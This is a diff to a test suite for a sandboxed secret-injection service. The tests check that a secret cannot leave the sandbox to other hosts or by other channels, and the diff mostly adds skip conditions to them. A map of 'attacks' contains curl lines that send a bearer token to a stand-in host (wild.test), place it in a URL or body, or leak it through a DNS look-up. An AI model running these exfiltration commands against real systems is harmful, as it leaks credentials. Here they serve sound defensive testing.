@@ -34,7 +34,7 @@ before(async () => {
   });
   secretId = (await createSecret(VALUE, [HOST, 'denied.test'])).id;
   for (const mode of Object.keys(MODES) as Mode[]) sandboxes[mode] = await sandboxWith(MODES[mode]);
-  await installHttpx(service, sandboxes.unrestricted);
+  if (!replaced.skip) await installHttpx(service, sandboxes.unrestricted);
 });
 after(async () => {
   await service?.close();
@@ -90,6 +90,7 @@ for folder in ("/workspace", "/home", "/tmp", "/etc", "/run", "/root"):
 print("found " + repr(found))`;
 
 const replaced = sameWithEachRuntime('the gateway replaces it; network-policy tests curl, pip, git and npm with each');
+const served = sameWithEachRuntime('server and gateway find the value, outside of the sandbox');
 describe('the clients of the image', replaced, () => {
   const https = `https://${HOST}`;
   for (const [name, { script, sends }] of Object.entries(secretClients(HOST))) {
@@ -125,35 +126,39 @@ u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5); u.sendto(
 });
 
 describe('the value of a secret', () => {
-  it('goes to no other host, nor over plain HTTP, nor in a URL, a body or a look-up, nor after a redirect', async () => {
-    const attacks = {
-      'another host': `curl -sSf -H "Authorization: Bearer $KEY" https://wild.test/`,
-      'plain HTTP': `curl -sSf -H "Authorization: Bearer $KEY" http://${HOST}/`,
-      'plain HTTP to port 443': `curl -sS -m 5 -H "Authorization: Bearer $KEY" http://${HOST}:443/ || true`,
-      'the URL': `curl -sSf "https://${HOST}/$KEY?key=$KEY"`,
-      'a body': `curl -sSf -d "$KEY" https://${HOST}/`,
-      'a redirect': `curl -sSf -L --location-trusted -H "Authorization: Bearer $KEY" "https://${HOST}/?to=https://wild.test/after"`,
-      'another name in the request': `curl -sS -H "Host: ${HOST}" -H "Authorization: Bearer $KEY" https://wild.test/ || true`,
-      'a look-up': `getent hosts "$KEY.data.test" || true`,
-      'the address of the host': `curl -sS -k -H "Authorization: Bearer $KEY" https://${internet.address}/ || true`,
-    };
-    for (const mode of ['unrestricted', 'allowlist'] as const) {
-      for (const [name, script] of Object.entries(attacks)) {
-        await arrived();
-        await shell(sandboxes[mode], script);
-        const got = (await arrived()).filter((each) => each.includes(VALUE));
-        const permitted = name === 'a redirect' ? [`${HOST} Bearer ${VALUE}`] : [];
-        assert.deepEqual(got, permitted, `${mode}: ${name}`);
+  it(
+    'goes to no other host, nor over plain HTTP, nor in a URL, a body or a look-up, nor after a redirect',
+    replaced,
+    async () => {
+      const attacks = {
+        'another host': `curl -sSf -H "Authorization: Bearer $KEY" https://wild.test/`,
+        'plain HTTP': `curl -sSf -H "Authorization: Bearer $KEY" http://${HOST}/`,
+        'plain HTTP to port 443': `curl -sS -m 5 -H "Authorization: Bearer $KEY" http://${HOST}:443/ || true`,
+        'the URL': `curl -sSf "https://${HOST}/$KEY?key=$KEY"`,
+        'a body': `curl -sSf -d "$KEY" https://${HOST}/`,
+        'a redirect': `curl -sSf -L --location-trusted -H "Authorization: Bearer $KEY" "https://${HOST}/?to=https://wild.test/after"`,
+        'another name in the request': `curl -sS -H "Host: ${HOST}" -H "Authorization: Bearer $KEY" https://wild.test/ || true`,
+        'a look-up': `getent hosts "$KEY.data.test" || true`,
+        'the address of the host': `curl -sS -k -H "Authorization: Bearer $KEY" https://${internet.address}/ || true`,
+      };
+      for (const mode of ['unrestricted', 'allowlist'] as const) {
+        for (const [name, script] of Object.entries(attacks)) {
+          await arrived();
+          await shell(sandboxes[mode], script);
+          const got = (await arrived()).filter((each) => each.includes(VALUE));
+          const permitted = name === 'a redirect' ? [`${HOST} Bearer ${VALUE}`] : [];
+          assert.deepEqual(got, permitted, `${mode}: ${name}`);
+        }
       }
-    }
-    const { requests, questions } = await internet.seen();
-    assert.ok(!JSON.stringify([requests, questions]).includes(VALUE));
-    // Controls: the placeholder took those ways, and after the redirect the request arrived.
-    const key = (await shell(sandboxes.unrestricted, 'printf %s "$KEY"')).text;
-    for (const sent of [`${key}?key=${key}`, 'GET wild.test /after'])
-      assert.ok(JSON.stringify(requests).includes(sent));
-    assert.ok(questions.includes(`${key}.data.test`));
-  });
+      const { requests, questions } = await internet.seen();
+      assert.ok(!JSON.stringify([requests, questions]).includes(VALUE));
+      // Controls: the placeholder took those ways, and after the redirect the request arrived.
+      const key = (await shell(sandboxes.unrestricted, 'printf %s "$KEY"')).text;
+      for (const sent of [`${key}?key=${key}`, 'GET wild.test /after'])
+        assert.ok(JSON.stringify(requests).includes(sent));
+      assert.ok(questions.includes(`${key}.data.test`));
+    },
+  );
 
   it('opens no host that the policy closes', async () => {
     await arrived();
@@ -168,7 +173,7 @@ describe('the value of a secret', () => {
     assert.deepEqual(await arrived(), []);
   });
 
-  it('of a permitted host that echoes it comes back in the body only, as documented', async () => {
+  it('of a permitted host that echoes it comes back in the body only, as documented', replaced, async () => {
     // Another secret, because the service keeps the output of commands.
     const sandbox = await sandboxWith(MODES.unrestricted, (await createSecret('echoed-value', [HOST])).id);
     const { text } = await shell(sandbox, `curl -sSi -H "Authorization: Bearer $KEY" https://${HOST}/echo`);
@@ -221,7 +226,7 @@ describe('the value of a secret', () => {
   });
 });
 
-describe('a change of a secret', () => {
+describe('a change of a secret', served, () => {
   it('is in force for the next request, and a deleted secret is not sent', async () => {
     const { id } = await createSecret('first-value', [HOST]);
     const sandbox = await sandboxWith(MODES.unrestricted, id);
@@ -243,7 +248,7 @@ describe('a change of a secret', () => {
   });
 });
 
-describe('after kill -9', () => {
+describe('after kill -9', served, () => {
   for (const part of ['egress', 'hostd', 'server'] as const) {
     it(`of ${part}, a sandbox has its secrets again`, async () => {
       await service.kill(part);
